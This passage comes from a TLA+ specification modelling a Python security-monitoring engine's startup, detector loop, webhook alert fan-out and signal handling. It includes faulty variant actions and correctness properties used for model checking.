        f \in {g \in DirFiles : files[g] # Absent /\ hashes[g] = NoEntry}}
    \cup
    {Event("dir_modified", {}, 0, f, hashes[f], files[f]) :
        f \in {g \in DirFiles : /\ files[g] # Absent
                                /\ hashes[g] # NoEntry
                                /\ hashes[g] # files[g]}}

\* FileChangeDetector._check_file_hashes: file_hashes after both loops
HashBaseline(files, hashes) ==
    [f \in TrackedFiles |->
        IF f \in CRITICAL_FILES
        THEN IF files[f] \in {Absent, Unreadable} THEN hashes[f] ELSE files[f]
        ELSE IF files[f] = Absent THEN hashes[f] ELSE files[f]]

\* the paths that have a hash in the mapping
Keys(hashes) == {f \in TrackedFiles : hashes[f] # NoEntry}

\* what the detectors look at, before any cycle looked at it
NoObs == [suid |-> {}, sgid |-> {}, ports |-> {},
          files |-> [f \in TrackedFiles |-> Absent]]

\* the variables of the detectors that are not constructed
NoConf == [expected_ports |-> {}]

NoHashFile == [state |-> "missing", map |-> NoHashes]

\* no journal is being scanned
\* no AuthFailureDetector was constructed
ClockIdle ==
    /\ now = 0
    /\ last_check = 0
    /\ checkedAt = {}

LogIdle ==
    /\ ClockIdle
    /\ logDet = "none"
    /\ threshold = 0
    /\ journal = <<>>
    /\ scans = {}
    /\ logEvents = <<>>
    /\ cmdEvents = <<>>

\* no cycle of external invocations is being followed
CallIdle ==
    /\ callIdx = 0
    /\ callState = "none"
    /\ callFailed = {}
    /\ cycles = 0

AuxIdle == LogIdle /\ CallIdle

\* no detector is under observation
DetIdle ==
    /\ det = "none"
    /\ detConf = NoConf
    /\ fsSuid = {} /\ fsSgid = {}
    /\ listening = {}
    /\ fsFiles = [f \in TrackedFiles |-> Absent]
    /\ hashFile = NoHashFile
    /\ known_suid_files = {}
    /\ known_listeners = {}
    /\ file_hashes = NoHashes
    /\ lastState = NoObs
    /\ dEvents = {}
    /\ observed = {}
    /\ added = FALSE /\ prevAdded = FALSE /\ sameState = FALSE
    /\ delivery = "none" /\ prevFailed = FALSE

(* ------------------------------ SecurityEvent --------------------------- *)
\* SecurityEvent.__init__: the attributes of an event; the timestamp is taken
\* when the event is constructed
SecurityEvent(event_type, severity, details) ==
    [event_type |-> event_type, severity |-> severity,
     source |-> "localhost", timestamp |-> "2026-11-06T08:00:00Z",
     details |-> details]

\* SecurityEvent.to_dict: a new dictionary with the attributes of the event
to_dict(e) ==
    [timestamp |-> e.timestamp, event_type |-> e.event_type,
     severity |-> e.severity, source |-> e.source, details |-> e.details]

\* no event has been constructed
NoEvent == SecurityEvent("none", "none", {})

\* SAMS.test_alert: the synthetic event
TestEvent == SecurityEvent("test", "low", {<<"test", "true">>})

\* an event of each detector, as its detect() constructs it
EventOf(name) ==
    CASE name = "auth_failures" ->
            SecurityEvent("auth_failure", "high", {<<"service", "ssh">>})
      [] name = "privilege_escalation" ->
            SecurityEvent("privilege_escalation", "critical",
                          {<<"method", "suid_change">>})
      [] name = "suspicious_commands" ->
            SecurityEvent("suspicious_command", "critical",
                          {<<"threat_type", "reverse_shell">>})
      [] name = "file_changes" ->
            SecurityEvent("file_change", "critical",
                          {<<"file_path", "/etc/passwd">>})
      [] OTHER ->
            SecurityEvent("network_anomaly", "high",
                          {<<"anomaly_type", "new_listener">>})

(* ------------------------------ engine ---------------------------------- *)
\* keys of detector_classes, in dictionary order
DetectorNames == <<"auth_failures", "privilege_escalation",
                   "suspicious_commands", "file_changes", "network_anomalies">>

\* what a detect() call can do: raise, or return 0..MaxEvents events
DetectOutcomes == {-1} \cup (0 .. MaxEvents)

\* what a send_alert call can do as seen by _process_event
SendOutcomes == {"true", "false", "raise"}

\* check_interval values: -1 stands for a value time.sleep rejects
IntervalValues == -1 .. MaxInterval

Terminal == {"stopped", "exited", "crashed"}

\* the detectors named by the positions S, in the order of detector_classes
PickDetectors(S) ==
    LET f[i \in 0 .. Len(DetectorNames)] ==
            IF i = 0 THEN <<>>
            ELSE IF i \in S THEN Append(f[i - 1], DetectorNames[i])
            ELSE f[i - 1]
    IN f[Len(DetectorNames)]

\* no alerter instance is under observation
AlerterIdle ==
    /\ alt = [class |-> "none", enabled |-> FALSE, method |-> "POST",
              template |-> "none"]
    /\ altCfg = [type |-> "other", enabled |-> FALSE, url |-> FALSE,
                 bot_token |-> FALSE, chat_id |-> FALSE, method |-> "POST",
                 template |-> "none"]
    /\ lastSend = NoSend
    /\ sends = 0
    /\ netCalls = 0
    /\ body_template = NoTemplate
    /\ payload = NoPayload

\* the process at the start of main()
InitStartup ==
    /\ pc = "main"
    /\ exitCode = -1
    /\ running = FALSE
    /\ handlers = FALSE
    /\ detectors = <<>>
    /\ alerters = <<>>
    /\ detCfg = [i \in 1 .. Len(DetectorNames) |-> "unread"]
    /\ whOutcome = <<>>
    /\ webhooks = <<>>
    /\ di = 0
    /\ got = 0
    /\ done = 0
    /\ ai = 0
    /\ sendResults = <<>>
    /\ interval = 0
    /\ sleepLeft = 0
    /\ invoked = <<>>
    /\ lastOutcome = "none"
    /\ failedPrev = FALSE
    /\ failedNow = FALSE
    /\ evFailed = FALSE
    /\ sigSeen = FALSE
    /\ testMode = FALSE
    /\ sigAt = -1
    /\ cfgFailed = FALSE
    /\ event = NoEvent
    /\ AlerterIdle
    /\ DetIdle
    /\ AuxIdle

\* the process when SAMS.__init__ has returned: some detectors and some
\* alerters were constructed, the signal handlers are registered
Init ==
    /\ pc = "initialized"
    /\ exitCode = -1
    /\ running = FALSE
    /\ handlers = TRUE
    /\ \E S \in SUBSET (1 .. Len(DetectorNames)) :
          /\ detectors = PickDetectors(S)
          /\ detCfg = [i \in 1 .. Len(DetectorNames) |->
                          IF i \in S THEN "ok" ELSE "disabled"]
    /\ \E n \in 0 .. MaxWebhooks :
          /\ alerters = [i \in 1 .. n |-> [entry |-> i, enabled |-> TRUE]]
          /\ whOutcome = [i \in 1 .. n |-> "active"]
          /\ webhooks = [i \in 1 .. n |->
                            [enabled |-> TRUE, credential |-> TRUE]]
    /\ di = 0
    /\ got = 0
    /\ done = 0
    /\ ai = 0
    /\ sendResults = <<>>
    /\ interval = 0
    /\ sleepLeft = 0
    /\ invoked = <<>>
    /\ lastOutcome = "none"
    /\ failedPrev = FALSE
    /\ failedNow = FALSE
    /\ evFailed = FALSE
    /\ sigSeen = FALSE
    /\ testMode = FALSE
    /\ sigAt = -1
    /\ cfgFailed = FALSE
    /\ event = NoEvent
    /\ AlerterIdle
    /\ DetIdle
    /\ AuxIdle

\* main(): the configuration file does not exist: exit(1)
MainConfigCheck ==
    /\ pc = "main"
    /\ \E exists \in BOOLEAN :
          IF exists
          THEN pc' = "load_config" /\ exitCode' = exitCode
               /\ cfgFailed' = cfgFailed
          ELSE pc' = "exited" /\ exitCode' = 1 /\ cfgFailed' = TRUE
    /\ UNCHANGED <<running, handlers, detectors, alerters, detCfg, whOutcome, webhooks,
                   di, got, done, ai, sendResults, interval, sleepLeft, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, event, alerterVars, detVars, auxVars>>

\* SAMS._load_config: any exception while opening or parsing: exit(1)
_load_config ==
    /\ pc = "load_config"
    /\ \E parses \in BOOLEAN :
          IF parses
          THEN pc' = "setup_logging" /\ exitCode' = exitCode
               /\ cfgFailed' = cfgFailed
          ELSE pc' = "exited" /\ exitCode' = 1 /\ cfgFailed' = TRUE
    /\ running' = FALSE
    /\ UNCHANGED <<handlers, detectors, alerters, detCfg, whOutcome, webhooks,
                   di, got, done, ai, sendResults, interval, sleepLeft, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, event, alerterVars, detVars, auxVars>>

\* SAMS._setup_logging: not guarded; a bad log_level or an unwritable log
\* file raises out of __init__ and the interpreter exits with status 1
_setup_logging ==
    /\ pc = "setup_logging"
    /\ \E ok \in BOOLEAN :
          IF ok
          THEN pc' = "init_detectors" /\ di' = 1 /\ exitCode' = exitCode
          ELSE pc' = "crashed" /\ di' = di /\ exitCode' = 1
    /\ UNCHANGED <<running, handlers, detectors, alerters, detCfg, whOutcome, webhooks,
                   got, done, ai, sendResults, interval, sleepLeft, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* _initialize_detectors with the try around the whole loop: the first
\* constructor that raises ends the construction of detectors
_initialize_detectors_abort ==
    /\ pc = "init_detectors"
    /\ di <= Len(DetectorNames)
    /\ \E enabled \in BOOLEAN, raises \in BOOLEAN :
          LET outcome == IF ~enabled THEN "disabled"
                         ELSE IF raises THEN "raised" ELSE "ok"
          IN /\ detCfg' = [detCfg EXCEPT ![di] = outcome]
             /\ detectors' = IF outcome = "ok"
                             THEN Append(detectors, DetectorNames[di])
                             ELSE detectors
             /\ IF di = Len(DetectorNames) \/ outcome = "raised"
                THEN pc' = "init_alerters" /\ di' = 0
                ELSE pc' = pc /\ di' = di + 1
    /\ UNCHANGED <<exitCode, running, handlers, alerters, whOutcome, webhooks,
                   got, done, ai, sendResults, interval, sleepLeft,
                   invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode, sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* SAMS._initialize_detectors: one iteration of the loop over detector_classes
_initialize_detectors ==
    /\ pc = "init_detectors"
    /\ di <= Len(DetectorNames)
    /\ \E enabled \in BOOLEAN, raises \in BOOLEAN :
          LET outcome == IF ~enabled THEN "disabled"
                         ELSE IF raises THEN "raised" ELSE "ok"
          IN /\ detCfg' = [detCfg EXCEPT ![di] = outcome]
             /\ detectors' = IF outcome = "ok"
                             THEN Append(detectors, DetectorNames[di])
                             ELSE detectors
    /\ IF di = Len(DetectorNames)
       THEN pc' = "init_alerters" /\ di' = 0
       ELSE pc' = pc /\ di' = di + 1
    /\ UNCHANGED <<exitCode, running, handlers, alerters, whOutcome, webhooks,
                   got, done, ai, sendResults, interval, sleepLeft, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* _initialize_alerters without the is_enabled() test: every alerter whose
\* constructor returned is appended
_initialize_alerters_keepAll ==
    /\ pc = "init_alerters"
    /\ Len(whOutcome) < MaxWebhooks
    /\ \E cfg \in WebhookConfigs :
          LET class   == AlerterClass(cfg.type)
              alerter == AlerterNew(class, cfg)
              outcome == IF ~cfg.enabled THEN "disabled"
                         ELSE IF CtorRaises(class, cfg) THEN "raised"
                         ELSE "active"
          IN /\ whOutcome' = Append(whOutcome, outcome)
             /\ webhooks' = Append(webhooks,
                                  [enabled    |-> cfg.enabled,
                                   credential |-> HasCredential(class, cfg)])
             /\ alerters' = IF outcome = "active"
                            THEN Append(alerters,
                                        [entry   |-> Len(whOutcome) + 1,
                                         enabled |-> alerter.enabled])
                            ELSE alerters
    /\ UNCHANGED <<pc, exitCode, running, handlers, detectors, detCfg,
                   di, got, done, ai, sendResults, interval, sleepLeft, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* SAMS._initialize_alerters: one iteration of the loop over webhooks
_initialize_alerters ==
    /\ pc = "init_alerters"
    /\ Len(whOutcome) < MaxWebhooks
    /\ \E cfg \in WebhookConfigs :
          LET class   == AlerterClass(cfg.type)
              alerter == AlerterNew(class, cfg)
              outcome == IF ~cfg.enabled THEN "disabled"
                         ELSE IF CtorRaises(class, cfg) THEN "raised"
                         ELSE IF is_enabled(alerter) THEN "active"
                         ELSE "not_enabled"
          IN /\ whOutcome' = Append(whOutcome, outcome)
             /\ webhooks' = Append(webhooks,
                                  [enabled    |-> cfg.enabled,
                                   credential |-> HasCredential(class, cfg)])
             /\ alerters' = IF outcome = "active"
                            THEN Append(alerters,
                                        [entry   |-> Len(whOutcome) + 1,
                                         enabled |-> alerter.enabled])
                            ELSE alerters
    /\ UNCHANGED <<pc, exitCode, running, handlers, detectors, detCfg,
                   di, got, done, ai, sendResults, interval, sleepLeft, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* SAMS.__init__: the webhook list is exhausted; register the signal handlers
RegisterSignals ==
    /\ pc = "init_alerters"
    /\ handlers' = TRUE
    /\ pc' = "initialized"
    /\ UNCHANGED <<exitCode, running, detectors, alerters, detCfg, whOutcome, webhooks,
                   di, got, done, ai, sendResults, interval, sleepLeft, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* main(): after SAMS(...) returned, take the test-alert path or call run()
MainDispatch ==
    /\ pc = "initialized"
    /\ \E test \in BOOLEAN :
          /\ testMode' = test
          /\ pc' = IF test THEN "test_alert" ELSE "run"
    /\ UNCHANGED <<exitCode, running, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, di, got, done, ai, sendResults, interval,
                   sleepLeft, invoked, lastOutcome, failedPrev,
                   failedNow, evFailed, sigSeen,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* test_alert that hands the test event to _process_event twice
test_alert_twice ==
    /\ pc = "test_alert"
    /\ got' = 2
    /\ done' = 0
    /\ event' = TestEvent
    /\ pc' = "event"
    /\ UNCHANGED <<exitCode, running, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, di, ai, sendResults, interval, sleepLeft,
                   invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode, sigAt, cfgFailed, alerterVars, detVars,
                   auxVars>>

\* SAMS.test_alert: build the test event and hand it to _process_event
test_alert ==
    /\ pc = "test_alert"
    /\ got' = 1
    /\ done' = 0
    /\ event' = TestEvent
    /\ pc' = "event"
    /\ UNCHANGED <<exitCode, running, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, di, ai, sendResults, interval, sleepLeft, invoked,
                   lastOutcome, failedPrev, failedNow, evFailed, sigSeen, testMode,
                   sigAt, cfgFailed, alerterVars, detVars, auxVars>>

\* SAMS.run, before the loop: running = True and check_interval is read
RunStart ==
    /\ pc = "run"
    /\ running' = TRUE
    /\ \E ci \in IntervalValues : interval' = ci
    /\ pc' = "loop"
    /\ UNCHANGED <<exitCode, handlers, detectors, alerters, detCfg, whOutcome, webhooks,
                   di, got, done, ai, sendResults, sleepLeft, invoked,
                   lastOutcome, failedPrev, failedNow, evFailed, sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* SAMS.run: the test of "while self.running"
LoopTest ==
    /\ pc = "loop"
    /\ IF running
       THEN /\ pc' = "pass"
            /\ di' = 1
            /\ invoked' = <<>>
            /\ failedPrev' = failedNow
            /\ failedNow' = FALSE
            /\ lastOutcome' = "none"
            /\ exitCode' = exitCode
       ELSE /\ pc' = "stopped"
            /\ exitCode' = 0
            /\ UNCHANGED <<di, invoked, failedPrev, failedNow,
                           lastOutcome>>
    /\ UNCHANGED <<running, handlers, detectors, alerters, detCfg, whOutcome, webhooks,
                   got, done, ai, sendResults, interval, sleepLeft, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* RunDetector with the try around the whole for-loop: an exception in one
\* detect() ends the pass
RunDetector_abortPass ==
    /\ pc = "pass"
    /\ di <= Len(detectors)
    /\ invoked' = Append(invoked, detectors[di])
    /\ \E out \in DetectOutcomes :
          IF out = -1
          THEN /\ lastOutcome' = "raise"
               /\ failedNow' = TRUE
               /\ got' = 0 /\ done' = 0
               /\ di' = Len(detectors) + 1
               /\ pc' = "pass"
          ELSE /\ lastOutcome' = "ok"
               /\ failedNow' = failedNow
               /\ got' = out /\ done' = 0
               /\ di' = IF out = 0 THEN di + 1 ELSE di
               /\ pc' = IF out = 0 THEN "pass" ELSE "event"
    /\ UNCHANGED <<exitCode, running, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, ai, sendResults, interval, sleepLeft,
                   failedPrev, evFailed, sigSeen, testMode, sigAt, cfgFailed,
                   event, alerterVars, detVars, auxVars>>

\* RunDetector with "if not self.running: break" at the head of the for-loop
RunDetector_stopOnSignal ==
    /\ pc = "pass"
    /\ di <= Len(detectors)
    /\ IF ~running
       THEN /\ di' = Len(detectors) + 1
            /\ UNCHANGED <<pc, invoked, lastOutcome, failedNow, got, done>>
       ELSE /\ invoked' = Append(invoked, detectors[di])
            /\ \E out \in DetectOutcomes :
                  IF out = -1
                  THEN /\ lastOutcome' = "raise"
                       /\ failedNow' = TRUE
                       /\ got' = 0 /\ done' = 0
                       /\ di' = di + 1
                       /\ pc' = "pass"
                  ELSE /\ lastOutcome' = "ok"
                       /\ failedNow' = failedNow
                       /\ got' = out /\ done' = 0
                       /\ di' = IF out = 0 THEN di + 1 ELSE di
                       /\ pc' = IF out = 0 THEN "pass" ELSE "event"
    /\ UNCHANGED <<exitCode, running, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, ai, sendResults, interval, sleepLeft,
                   failedPrev, evFailed, sigSeen, testMode, sigAt, cfgFailed,
                   event, alerterVars, detVars, auxVars>>

\* SAMS.run: one iteration of "for detector in self.detectors" up to and
\* including the call of detect(); an exception is caught per detector
RunDetector ==
    /\ pc = "pass"
    /\ di <= Len(detectors)
    /\ invoked' = Append(invoked, detectors[di])
    /\ \E out \in DetectOutcomes :
          IF out = -1
          THEN /\ lastOutcome' = "raise"
               /\ failedNow' = TRUE
               /\ got' = 0 /\ done' = 0
               /\ di' = di + 1
               /\ pc' = "pass"
          ELSE /\ lastOutcome' = "ok"
               /\ failedNow' = failedNow
               /\ got' = out /\ done' = 0
               /\ di' = IF out = 0 THEN di + 1 ELSE di
               /\ pc' = IF out = 0 THEN "pass" ELSE "event"
    /\ UNCHANGED <<exitCode, running, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, ai, sendResults, interval, sleepLeft, failedPrev, evFailed, sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* SAMS._process_event, entry: log the event, start the loop over alerters
_process_event ==
    /\ pc = "event"
    /\ done < got
    /\ event' = IF testMode THEN event ELSE EventOf(detectors[di])
    /\ ai' = 1
    /\ sendResults' = <<>>
    /\ pc' = "send"
    /\ UNCHANGED <<exitCode, running, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, di, got, done, interval, sleepLeft, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, alerterVars, detVars, auxVars>>

\* SendAlert without the try and without tolerance of a false result: the
\* first delivery that fails ends the loop over the alerters
SendAlert_stopOnFailure ==
    /\ pc = "send"
    /\ ai <= Len(alerters)
    /\ \E r \in SendOutcomes :
          /\ sendResults' = Append(sendResults,
                                   [to |-> alerters[ai].entry, r |-> r,
                                 ev |-> to_dict(event)])
          /\ ai' = IF r = "true" THEN ai + 1 ELSE Len(alerters) + 1
    /\ UNCHANGED <<pc, exitCode, running, handlers, detectors, alerters,
                   detCfg, whOutcome, webhooks, di, got, done, interval, sleepLeft,
                   invoked, lastOutcome, failedPrev, failedNow,
                   evFailed, sigSeen, testMode, sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* SendAlert with an alerter that removes what it rendered from the details
SendAlert_consumeDetails ==
    /\ pc = "send"
    /\ ai <= Len(alerters)
    /\ \E r \in SendOutcomes :
          sendResults' = Append(sendResults,
                                [to |-> alerters[ai].entry, r |-> r,
                                 ev |-> to_dict(event)])
    /\ event' = [event EXCEPT !.details = {}]
    /\ ai' = ai + 1
    /\ UNCHANGED <<pc, exitCode, running, handlers, detectors, alerters,
                   detCfg, whOutcome, webhooks, di, got, done, interval, sleepLeft,
                   invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode, sigAt, cfgFailed, alerterVars, detVars,
                   auxVars>>

\* SAMS._process_event: one iteration of "for alerter in self.alerters";
\* a false result is logged, an exception is caught and logged
SendAlert ==
    /\ pc = "send"
    /\ ai <= Len(alerters)
    /\ \E r \in SendOutcomes :
          sendResults' = Append(sendResults,
                                [to |-> alerters[ai].entry, r |-> r,
                                 ev |-> to_dict(event)])
    /\ ai' = ai + 1
    /\ UNCHANGED <<pc, exitCode, running, handlers, detectors, alerters,
                   detCfg, whOutcome, webhooks, di, got, done, interval, sleepLeft,
                   invoked, lastOutcome, failedPrev, failedNow,
                   evFailed, sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* _process_event that starts over with the same event when a delivery failed
EventDone_retry ==
    /\ pc = "send"
    /\ ai > Len(alerters)
    /\ evFailed' = (evFailed \/ \E i \in 1 .. Len(sendResults) :
                                    sendResults[i].r # "true")
    /\ IF \E i \in 1 .. Len(sendResults) : sendResults[i].r # "true"
       THEN pc' = "event" /\ done' = done /\ di' = di /\ exitCode' = exitCode
       ELSE /\ done' = done + 1
            /\ IF testMode
               THEN pc' = "exited" /\ exitCode' = 0 /\ di' = di
               ELSE /\ exitCode' = exitCode
                    /\ IF done + 1 < got
                       THEN pc' = "event" /\ di' = di
                       ELSE pc' = "pass" /\ di' = di + 1
    /\ UNCHANGED <<running, handlers, detectors, alerters, detCfg, whOutcome, webhooks,
                   got, ai, sendResults, interval, sleepLeft, invoked,
                   lastOutcome, failedPrev, failedNow, sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* SAMS._process_event returns: to the loop over events, or to test_alert,
\* after which main() calls sys.exit(0)
EventDone ==
    /\ pc = "send"
    /\ ai > Len(alerters)
    /\ done' = done + 1
    /\ evFailed' = (evFailed \/ \E i \in 1 .. Len(sendResults) :
                                    sendResults[i].r # "true")
    /\ IF testMode
       THEN pc' = "exited" /\ exitCode' = 0 /\ di' = di
       ELSE /\ exitCode' = exitCode
            /\ IF done + 1 < got
               THEN pc' = "event" /\ di' = di
               ELSE pc' = "pass" /\ di' = di + 1
    /\ UNCHANGED <<running, handlers, detectors, alerters, detCfg, whOutcome, webhooks,
                   got, ai, sendResults, interval, sleepLeft, invoked,
                   lastOutcome, failedPrev, failedNow, sigSeen,
                   testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* AfterPass leaving the loop over detectors one detector early
AfterPass_skipLast ==
    /\ pc = "pass"
    /\ di >= Len(detectors)
    /\ IF running
       THEN IF interval < 0
            THEN pc' = "loop_except" /\ sleepLeft' = sleepLeft
            ELSE pc' = "sleeping" /\ sleepLeft' = interval
       ELSE pc' = "loop" /\ sleepLeft' = sleepLeft
    /\ UNCHANGED <<exitCode, running, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, di, got, done, ai, sendResults, interval, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* SAMS.run, after the loop over detectors: "if self.running: time.sleep";
\* time.sleep raises on a value it rejects, into the handler of the outer try
AfterPass ==
    /\ pc = "pass"
    /\ di > Len(detectors)
    /\ IF running
       THEN IF interval < 0
            THEN pc' = "loop_except" /\ sleepLeft' = sleepLeft
            ELSE pc' = "sleeping" /\ sleepLeft' = interval
       ELSE pc' = "loop" /\ sleepLeft' = sleepLeft
    /\ UNCHANGED <<exitCode, running, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, di, got, done, ai, sendResults, interval, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* time.sleep: a signal whose handler returns normally does not end the
\* sleep (PEP 475), the call returns when the whole interval has elapsed
Sleep ==
    /\ pc = "sleeping"
    /\ IF sleepLeft > 0
       THEN pc' = pc /\ sleepLeft' = sleepLeft - 1
       ELSE pc' = "loop" /\ sleepLeft' = sleepLeft
    /\ UNCHANGED <<exitCode, running, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, di, got, done, ai, sendResults, interval, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* SAMS.run, handler of the outer try: "if self.running: time.sleep" again;
\* the exception it raises leaves run() and main(), which exits with status 1
LoopExcept ==
    /\ pc = "loop_except"
    /\ IF running
       THEN pc' = "crashed" /\ exitCode' = 1
       ELSE pc' = "loop" /\ exitCode' = exitCode
    /\ UNCHANGED <<running, handlers, detectors, alerters, detCfg, whOutcome, webhooks,
                   di, got, done, ai, sendResults, interval, sleepLeft, invoked, lastOutcome, failedPrev, failedNow, evFailed,
                   sigSeen, testMode,
                   sigAt, cfgFailed, event, alerterVars, detVars, auxVars>>

\* SAMS._signal_handler, run by the interpreter between two steps of the main
\* thread once the handlers are registered
_signal_handler ==
    /\ handlers
    /\ pc \notin Terminal
    /\ running' = FALSE
    /\ sigSeen' = TRUE
    /\ sigAt' = IF pc \in {"pass", "event", "send"} /\ ~testMode
                THEN Len(invoked) ELSE -1
    /\ UNCHANGED <<pc, exitCode, handlers, detectors, alerters, detCfg,
                   whOutcome, webhooks, di, got, done, ai, sendResults, interval,
                   sleepLeft, invoked, lastOutcome, failedPrev,
                   failedNow, evFailed, testMode,
                   cfgFailed, event, alerterVars, detVars, auxVars>>

\* the steps of main() up to the call of run() or test_alert()
StartupNext ==
    \/ MainConfigCheck
    \/ _load_config
    \/ _setup_logging
    \/ _initialize_detectors
    \/ _initialize_alerters
    \/ RegisterSignals
    \/ MainDispatch
    \/ RunStart
    \/ _signal_handler

\* the steps of the main thread once SAMS.__init__ has returned
EngineNext ==
    \/ MainDispatch
    \/ test_alert
    \/ RunStart
    \/ LoopTest
    \/ RunDetector
    \/ _process_event
    \/ SendAlert
    \/ EventDone
    \/ AfterPass
    \/ Sleep
    \/ LoopExcept

Next == EngineNext \/ _signal_handler

\* the engine from the return of SAMS.__init__ on
Spec == Init /\ [][Next]_vars

\* the same, the interpreter keeps running the main thread
FairSpec == Init /\ [][Next]_vars /\ WF_vars(EngineNext)

\* main() and SAMS.__init__, up to the entry of the loop
SpecStartup == InitStartup /\ [][StartupNext]_vars

\* SAMS.__init__ when _initialize_detectors has returned and the loop over
\* alerting.webhooks is about to start
InitLife ==
    /\ pc = "init_alerters"
    /\ exitCode = -1
    /\ running = FALSE
    /\ handlers = FALSE
    /\ \E S \in SUBSET (1 .. 2) :
          /\ detectors = PickDetectors(S)
          /\ detCfg = [i \in 1 .. Len(DetectorNames) |->
                          IF i \in S THEN "ok" ELSE "disabled"]
    /\ alerters = <<>>
    /\ whOutcome = <<>>
    /\ webhooks = <<>>
    /\ di = 0
    /\ got = 0
    /\ done = 0
    /\ ai = 0
    /\ sendResults = <<>>
    /\ interval = 0
    /\ sleepLeft = 0
    /\ invoked = <<>>
    /\ lastOutcome = "none"
    /\ failedPrev = FALSE
    /\ failedNow = FALSE
    /\ evFailed = FALSE
    /\ sigSeen = FALSE
    /\ testMode = FALSE
    /\ sigAt = -1
    /\ cfgFailed = FALSE
    /\ event = NoEvent
    /\ AlerterIdle
    /\ DetIdle
    /\ AuxIdle

\* the construction of the alerters, then the engine
LifeNext ==
    \/ _initialize_alerters
    \/ RegisterSignals
    \/ Next

\* the process from the loop over alerting.webhooks to its end
SpecLife == InitLife /\ [][LifeNext]_vars

(* ------------------------ properties of the engine ---------------------- *)
\* the for-loop over the detectors of the current pass has ended
PassOver ==
    \/ pc = "pass" /\ di > Len(detectors)
    \/ pc \in {"sleeping", "loop_except"}

\* _process_event has gone through the whole list of alerters
FanOutOver == pc = "send" /\ ai > Len(alerters)

\* the entries of the active alerters, in list order
AlerterEntries == [i \in 1 .. Len(alerters) |-> alerters[i].entry]

\* C1: a detect() call that raises leaves no event to process, every detector
\* of the list has been invoked when the pass ends (in the pass of the failure
\* and in the pass after it), and run() is left only because running is false
\* (or because time.sleep rejected the interval), never because of the failure
C1_DetectorFailureIsolated ==
    /\ lastOutcome = "raise" => got = 0 /\ done = 0 /\ pc \notin {"event", "send"}
    /\ (failedNow \/ failedPrev) /\ PassOver => invoked = detectors
    /\ pc = "stopped" => ~running /\ sigSeen
    /\ pc = "crashed" => interval < 0

\* C1 witness: the pass after a pass with a failure ends; in it a detector
\* failed again, a later one returned an event that was processed, and all
\* detectors were invoked
C1_Witness ==
    /\ pc = "pass" /\ di > Len(detectors)
    /\ failedPrev /\ failedNow
    /\ lastOutcome = "ok" /\ got > 0 /\ done = got
    /\ Len(detectors) >= 2 /\ invoked = detectors

\* C2: when _process_event has finished its loop, send_alert was called once
\* on each alerter of the list, in list order, whatever the earlier calls
\* returned or raised, also after an earlier event had a failed delivery
C2_EveryAlerterInvoked ==
    /\ pc = "send" => Len(sendResults) = ai - 1
    /\ FanOutOver =>
          [i \in 1 .. Len(sendResults) |-> sendResults[i].to] = AlerterEntries

\* C2 witness: an earlier event had a failed delivery, for this event the
\* first alerter raised and the second was still invoked
C2_Witness ==
    /\ FanOutOver /\ ~testMode
    /\ evFailed
    /\ Len(alerters) >= 2
    /\ sendResults[1].r = "raise"
    /\ sendResults[2].r = "false"

\* C5: once _signal_handler has run, the process eventually terminates
C5_SignalStops == sigSeen ~> (pc \in Terminal)

\* C6: a time.sleep during which running became false ends at once, and the
\* loop test that follows stops the engine
C6_SleepInterrupted ==
    [][/\ (pc = "sleeping" /\ ~running /\ Sleep) => pc' = "loop"
       /\ (pc = "loop" /\ ~running /\ LoopTest) => pc' = "stopped"]_vars

\* C7: with running false during a pass, the pass still invokes every detector
\* and passes every returned event to every alerter; after the pass the engine
\* does not sleep, and the loop test that follows stops it
C7_PassCompletesOnShutdown ==
    /\ [](~running /\ ~testMode =>
            /\ PassOver => invoked = detectors
            /\ pc = "pass" => done = got
